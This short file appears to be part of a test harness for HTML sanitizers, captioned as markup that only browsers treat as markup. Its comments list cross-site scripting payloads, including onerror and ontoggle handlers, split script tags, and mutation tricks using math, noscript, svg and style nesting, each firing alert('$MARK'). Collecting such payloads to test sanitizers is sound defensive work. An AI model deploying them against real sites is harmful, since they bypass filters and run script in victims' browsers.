"""Markup that only browsers read as such.

Loses: double-small, double-large
"""
# %% why_two
# <img src=x onerror  =  alert('$MARK') //
# <scr<script>ipt>alert('$MARK')</scr</script>ipt> <SCRIPT/x>alert('$MARK')</SCRIPT >
# <math><mtext><table><mglyph><style><img title="</style><img src=x onerror=alert('$MARK')>">
# <noscript><p title="</noscript><img src=x onerror=alert('$MARK')>"> <svg><p><style><a id="</style><img src=1 onerror=alert('$MARK')>">
# <details open ontoggle=alert('$MARK')> <body onpageshow=alert('$MARK')> <input autofocus onfocus=alert('$MARK')>
